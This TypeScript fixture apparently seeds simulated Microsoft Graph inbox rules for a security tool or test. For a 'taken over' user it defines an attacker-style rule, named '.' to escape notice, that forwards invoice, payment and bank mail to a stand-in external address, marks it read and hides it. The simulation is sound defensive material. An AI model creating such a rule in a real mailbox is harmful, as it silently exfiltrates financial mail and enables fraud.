import { takenOver } from './takeover.ts';

/** The inbox rules of a person, as Graph lists them: one that everybody has, and what the attacker made. */
export const seedInboxRules = (id: string) => [
  ...(id === takenOver ? [forwarding] : []),
  rule('AQAAAJ5dZp8=', 'Newsletters', 2, {
    conditions: { senderContains: ['newsletter'] },
    actions: { moveToFolder: 'AQMkADNewsletters', stopProcessingRules: true },
  }),
];

const rule = (id: string, displayName: string, sequence: number, what: Readonly<Record<string, unknown>>) => ({
  id,
  displayName,
  sequence,
  isEnabled: true,
  hasError: false,
  isReadOnly: false,
  ...what,
});

/** Named like those that attackers make, to be overlooked. */
const forwarding = rule('AQAAAJ5dZqA=', '.', 1, {
  conditions: { subjectContains: ['invoice', 'payment', 'bank'] },
  actions: {
    forwardTo: [{ emailAddress: { name: 'archive', address: 'archive@mailbox-sync.example' } }],
    markAsRead: true,
    moveToFolder: 'AQMkADRssFeeds',
    stopProcessingRules: true,
  },
});
